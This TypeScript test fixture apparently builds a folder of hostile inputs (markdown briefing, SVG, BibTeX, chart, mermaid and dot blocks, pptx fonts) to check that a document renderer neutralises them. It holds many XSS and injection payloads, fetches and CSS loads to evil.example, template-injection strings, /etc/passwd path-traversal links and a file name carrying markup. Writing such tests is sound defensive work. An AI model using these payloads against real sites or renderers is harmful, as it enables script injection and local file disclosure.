import { brandFile, usualMaster } from '../support/brand-file.js'

/** What would tell that it ran, and ask a server. */
const run = 'alert(1);fetch(`http://evil.example/`)'
const element = `<img src=x onerror='${run}'><script>${run}</script></script></style></title></textarea>`
const fill =
  '{{constructor.constructor "alert(1)"}} {{{__proto__}}} {{> page}} {{#with this}}{{lookup . "styles"}}{{/with}}'

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="${run}">
<style>@im@import "x";port "http://evil.example/a.css"; rect { fill: url(http://evil.example/b) }</style>
<script>${run}</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/c"/></foreignObject>
<use href="data:image/svg+xml,%3Csvg%20id='a'%20onload='alert(1)'/%3E#a"/>
<image href="http://evil.example/d.png" width="9" height="9"/>
<a xlink:href="javascript:${run}"><rect width="90" height="60" onclick="${run}"><set attributeName="onclick" to="${run}"/></rect></a>
</svg>`

const bibliography = `@book{a, title = {${element}}, author = {"><script>${run}</script>, A}, year = {2020}, publisher = {${fill}}, url = {javascript:alert(1)}}`

const chart = `\`\`\`chart bar
title: ${element}
source: ${fill}

${fill.replaceAll(',', '')},"${element.replaceAll('"', '""')}"
"</svg>]]><script>${run}</script>",2
B,3
\`\`\``

/** Every place of a briefing that takes text has some that would run, load or fill. */
const briefing = `---
subtitle: "${element.replaceAll('"', '\\"')}"
author: "\\"><script>${run}</script>"
organisation: "</style><script>${run}</script>"
description: "\\" onload=\\"${run}"
as-of: 2025-01-01
url: "https://example.org/'\\"><script>${run}</script>"
bibliography: a.bib
---

# ${element} ${fill}

<script>${run}</script>

<!-- notes: ${element} ${fill} --><!-- --!><script>${run}</script> -->

## Key points ${element}

- **${element}** ${fill} [one](javascript:alert(1)) [two](java&#x73;cript:alert(1)) [three](data:text/html,<script>${run}</script>) [four](vbscript:x "onmouseover=${run}") [five](https://example.org/"onclick="${run}) <javascript:alert(1)> [@a]
- ![${element}](a.svg "${fill}") ![x](http://evil.example/e.png) ![y](../../../etc/passwd) ![z](file:///etc/passwd)
- $\\href{javascript:alert(1)}{x} \\text{<img src=x onerror=alert(1)>} \\class{a" onclick="alert(1)}{x} \\htmlStyle{background:url(http://evil.example/f)}{x}$ and \`${element}\`

## Table

| ${element} | ${fill} |
|---|---|
| <b onclick="${run}">x</b> | </td></table><script>${run}</script> |

## Chart

${chart}

## Flow

\`\`\`mermaid
flowchart LR
  a["${element.replaceAll('"', '#quot;')}"] -->|"${fill.replaceAll('"', '')}"| b
  click a href "javascript:alert(1)"
  click b call alert(1)
  style a fill:url(http://evil.example/g)
\`\`\`

\`\`\`dot
digraph { a [label="</text><script>alert(1)</script>" URL="javascript:alert(1)" image="http://evil.example/h.png"]; a -> b [label=<<b>x</b>>] }
\`\`\`

## Code

\`\`\`html"><script>alert(1)</script>
${element}
\`\`\`

> [!NOTE]
> ${element}[^1]

[^1]: ${element}

## FAQ

### ${element}?

${fill}
`

const outside = (name: string) =>
  `${name}&#13;x } body { background: url(http://evil.example/i) } &lt;/style>&lt;script>alert(1)&lt;/script>`

/** Files of a folder in which everything attacks whoever looks at what comes of it. */
export const hostileFiles: Record<string, string | Uint8Array> = {
  'in/a\'"><img src=x onerror=alert(1)>&lt;b&gt;.md': briefing,
  'in/b.md': `---\nbrand: brand.pptx\n---\n\n# ${element}\n\n## Key points ${element}\n\n- ${element} ${fill}\n\n## Chart\n\n${chart}\n`,
  'in/a.svg': drawing,
  'in/a.bib': bibliography,
  'in/brand.pptx': brandFile({
    masters: [{ ...usualMaster, fonts: [outside('Head'), outside('Body')] }],
  }),
}
